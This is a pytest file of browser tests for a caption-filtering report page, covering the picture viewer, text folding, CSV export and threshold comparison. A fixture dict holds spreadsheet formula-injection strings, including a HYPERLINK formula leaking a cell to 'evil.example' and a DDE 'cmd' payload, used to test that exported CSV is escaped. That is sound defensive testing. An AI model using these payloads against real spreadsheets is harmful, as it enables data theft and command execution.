"""What a person does with the page: enlarge, unfold, save as CSV, compare two thresholds; and a run before a policy."""

from __future__ import annotations

import csv
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from capfilt.reporting import page
from capfilt.reporting.page_data import AnnotatedRound, AnnotationCounts, PageData, Training
from tests.reporting.test_page import HOSTILE, ROUNDS, an_annotated_round, await_text, page_data, picture, written

Open = Callable[..., Any]

FORMULAS = {
    "=1+1": "'=1+1",
    "+49 30 123": "'+49 30 123",
    "-5 degrees": "'-5 degrees",
    "@SUM(A1)": "'@SUM(A1)",
    '=HYPERLINK("http://evil.example?x="&A1,"click")': '\'=HYPERLINK("http://evil.example?x="&A1,"click")',
    "\t=1": "\t'=1",
    "\u200f =1": "\u200f '=1",
    "＝1+1": "'＝1+1",
    "red;=cmd|'/C calc'!A0": "red;'=cmd|'/C calc'!A0",
    "two\n=lines": "two\n'=lines",
    'say "hi", a = b': 'say "hi", a = b',
    "left-handed +1": "left-handed +1",
}
"""Texts, and what a spreadsheet may see of them."""


@pytest.fixture
def opened(tmp_path: Path, browser: Any) -> Open:
    """Opens the page of one annotated round."""

    def open_page(shown: AnnotatedRound, width: int = 1280, **more: Any) -> Any:
        return browser.open(written(tmp_path, page_data(shown, **more)), width)

    return open_page


def undecided(shown: AnnotatedRound, **more: Any) -> AnnotatedRound:
    """The same before a policy ran."""
    counts = AnnotationCounts(
        images=40,
        failed={"truncated image": 2},
        texts={"web": 40, "synthetic": 40},
        kept_images=20,
        kept={"web": 20, "synthetic": 20},
        dropped={"web: itm below threshold": 20},
        medians={"itm": {"web": 0.5, "synthetic": 0.5}},
        auc={},
    )
    return replace(shown, decided=False, counts=counts, **more)


# ---- before a policy ran ----


def test_nothing_is_kept_before_a_policy_ran(opened: Open) -> None:
    view = opened(undecided(an_annotated_round()), rounds=[], trainings=[], finished="")
    assert "kept" not in view.locator("body").inner_text().replace("none of them is kept or dropped yet", "")
    tiles = view.locator(".tiles").inner_text()
    assert "40" in tiles
    assert "2 could not be read" in tiles
    await_text(view, "#live", "web: 20 of 40 pass, 50.0 %")
    assert view.locator("h2", has_text="A threshold to try").count() == 1
    view.get_by_label("At the threshold").select_option(label="passes")
    await_text(view, "#found", "40 texts of 20 images")
    assert view.locator(".mark-word").first.inner_text() == "✓ passes"


def test_a_filter_without_itm_opens_by_itc(opened: Open) -> None:
    shown = undecided(an_annotated_round())
    shown.texts["itm"][:] = [None] * 80
    histograms = {"itc": shown.histograms["itc"]}
    view = opened(replace(shown, score="itc", threshold=0.0, histograms=histograms), rounds=[])
    assert view.locator("#score option:enabled").all_text_contents() == ["itc, cosine"]
    await_text(view, "#live", "21 of 40 pass")


def test_the_auc_on_human_pairs_is_named_as_such(opened: Open) -> None:
    view = opened(undecided(an_annotated_round(), human_auc={"itm": 0.9312}), rounds=[])
    tiles = view.locator(".tiles").inner_text()
    assert "AUC of itm, human pairs" in tiles
    assert "0.931" in tiles
    assert "AUC of itc" not in tiles, "what was not measured is absent"
    assert "shuffled to its image" in view.locator("#rounds").inner_text()


def test_no_chart_has_one_point() -> None:
    losses = [Training("pretrain", 0, {"lm": [(5.0, 2.25)], "itm": [(5.0, 0.7), (9.0, 0.6)]})]
    html = page.render(page_data(rounds=[ROUNDS[1]], trainings=losses))
    assert "pretrain: lm, round 0: 2.25 at step 5" in html
    assert "<b>pretrain: itm</b>" in html
    for title in ("Retrieval", "Captioning", "The filter", "Repeated captions", "Distinct bigrams", "pretrain: lm"):
        assert f"<b>{title}" not in html
    assert "<td>0.10</td>" in html, "repeated texts are in the table"
    assert "<b>Retrieval" in page.render(page_data()), "two rounds are a line"


# ---- pictures and texts ----


def test_a_picture_is_enlarged_by_mouse_and_by_keyboard(opened: Open) -> None:
    for width in (1280, 390):
        view = opened(an_annotated_round(), width)
        picture, dialog = view.get_by_role("button", name="Picture 00021"), view.get_by_role("dialog")
        picture.focus()
        view.keyboard.press("Enter")
        dialog.wait_for(state="visible")
        assert dialog.locator("#viewer-key").inner_text() == "00021"
        assert dialog.locator(".said").count() == 2
        assert dialog.locator("img").bounding_box()["width"] >= 300
        view.keyboard.press("ArrowRight")
        await_text(view, "#viewer-key", "00019")
        view.keyboard.press("Escape")
        dialog.wait_for(state="hidden")
        picture.click()
        dialog.wait_for(state="visible")
        assert view.evaluate("document.documentElement.scrollWidth") == width
        view.get_by_role("button", name="Close").click()
        dialog.wait_for(state="hidden")
        assert (
            view.evaluate("document.activeElement.textContent === '' && document.activeElement.className") == "enlarge"
        )


def test_a_heatmap_takes_the_place_of_the_picture_and_gives_it_back(opened: Open) -> None:
    drawn = picture(32)
    view = opened(replace(an_annotated_round(), heatmaps={38: drawn, 39: drawn}))
    assert view.locator("#gallery").get_by_text("2 texts, of each round the kept").count() == 1
    card = view.locator(".card", has=view.get_by_role("button", name="heatmap"))
    assert card.count() == 1, "texts without one have no button"
    first, second = card.get_by_role("button", name="heatmap").all()
    plain = card.locator("img").get_attribute("src")
    first.press("Enter")
    assert card.locator("img").get_attribute("src") == drawn
    second.click()
    assert [each.get_attribute("aria-pressed") for each in (first, second)] == ["false", "true"]
    card.locator("img").click()
    dialog = view.get_by_role("dialog")
    assert dialog.locator("img").get_attribute("src") == plain
    dialog.get_by_role("button", name="heatmap").first.click()
    assert dialog.locator("img").get_attribute("src") == drawn
    view.keyboard.press("Escape")
    second.click()
    assert card.locator("img").get_attribute("src") == plain


def test_long_texts_unfold(opened: Open) -> None:
    long = "a very long text about a dog " * 40
    shown = replace(an_annotated_round(2, [long, "short"]), full_lengths={0: 5000})
    view = opened(shown)
    text = view.locator(".said", has_text="very long").first
    folded = text.bounding_box()["height"]
    unfold = view.get_by_role("button", name="show all 5,000 characters").first
    assert unfold.get_attribute("aria-expanded") == "false"
    unfold.press("Enter")
    assert text.bounding_box()["height"] > 2 * folded
    assert "3,840 more characters are not in this page" in text.inner_text()
    view.get_by_role("button", name="show less").first.click()
    assert text.bounding_box()["height"] == folded
    assert view.get_by_role("button", name="show all").count() == 2, "the short texts have none"


# ---- CSV ----


def test_texts_of_many_lines_fold_too(opened: Open) -> None:
    view = opened(an_annotated_round(2, ["a\n" * 80, "short"]))
    assert view.locator(".said").first.bounding_box()["height"] < 120
    assert view.get_by_role("button", name="show all 160 characters").count() == 2


def saved(view: Any, folder: Path) -> list[dict[str, str]]:
    with view.expect_download() as download:
        view.locator("#save").click()
    path = folder / download.value.suggested_filename
    download.value.save_as(path)
    assert path.name == "a-run-texts.csv"
    with path.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.DictReader(file))


def test_what_is_shown_is_saved_as_csv(opened: Open, tmp_path: Path) -> None:
    shown = an_annotated_round()
    identities = [("00000", f"{i:032x}") for i in range(40)]
    view = opened(shown, identities=identities)
    view.get_by_label("Verdict").select_option("dropped")
    view.get_by_label("Source").select_option("web")
    view.get_by_label("Order").select_option("low")
    await_text(view, "#save", "Save 20 texts as CSV")
    rows = saved(view, tmp_path)
    assert [row["key"] for row in rows] == [f"{i:05d}" for i in range(20)], "all, not the first cards only"
    assert rows[3] == {
        "shard": "00000",
        "key": "00003",
        "uid": f"{3:032x}",
        "source": "web",
        "candidate": "0",
        "text": "picture 3 of a dog",
        "characters": "18",
        "itm": "0.075000003",
        "itc": "0.425",
        "verdict": "dropped",
        "reason": "itm below threshold",
        "truth": "wrong",
        "kind": "seo",
        "label": "",
    }
    view.get_by_label("Words").fill("no such text")
    await_text(view, "#found", "No text")
    assert view.locator("#save").is_disabled()


def test_a_spreadsheet_runs_no_text_as_a_formula(opened: Open, tmp_path: Path) -> None:
    texts = [*FORMULAS, *HOSTILE]
    images = [("=1+1", None), *((f"{i:05d}", None) for i in range(1, len(texts)))]
    view = opened(an_annotated_round(len(texts), texts), images=images)
    view.get_by_label("Source").select_option("web")
    view.get_by_label("Order").select_option("low")
    await_text(view, "#found", f"{len(texts)} texts")
    rows = saved(view, tmp_path)
    assert [row["text"] for row in rows[: len(FORMULAS)]] == list(FORMULAS.values())
    assert [row["text"] for row in rows[len(FORMULAS) :]] == [text.replace("\0", "\ufffd") for text in HOSTILE]
    assert rows[0]["key"] == "'=1+1"
    assert rows[-1]["itc"].startswith("-"), "numbers stay numbers"


# ---- two thresholds ----


def test_two_thresholds_side_by_side(opened: Open) -> None:
    view = opened(an_annotated_round())
    table = view.locator("#versus-rows")
    view.get_by_label("Threshold B").fill("0.75")
    await_text(view, "#versus-rows", "10 (25.0 %)")
    web = table.locator("tr").first.locator("td").all_text_contents()
    assert web == ["40", "20 (50.0 %)", "10 (25.0 %)", "10 (25.0 %)", "10 (25.0 %)", "0 (0.0 %)"]
    assert "A: precision 0.500, recall 0.500; B: precision 0.500, recall 0.250" in table.inner_text()
    assert view.locator("#only-a h3").inner_text() == "Only A passes 20 texts of this page"
    assert view.locator("#only-a .card").count() == 4
    assert not view.locator("#only-b").is_visible()
    view.get_by_role("button", name="Show them in the gallery").click()
    await_text(view, "#found", "20 texts of 10 images")
    view.get_by_role("button", name="Swap A and B").click()
    await_text(view, "#rule-a", "A: itm ≥ 0.750")
    assert view.locator("#only-b h3").inner_text() == "Only B passes 20 texts of this page"
    view.get_by_label("Threshold B").fill("0.75")
    view.get_by_text("A and B pass the same texts").wait_for(state="visible")
    view.get_by_label("B judges by").select_option("itc")
    await_text(view, "#only-b h3", "Only B passes")


def test_a_review_shows_no_verdicts_beside_its_questions() -> None:
    html = page.render(
        PageData("x", "annotate", annotated_rounds=[an_annotated_round()], images=[("k", None)] * 40), True
    )
    assert 'id="versus"' not in html
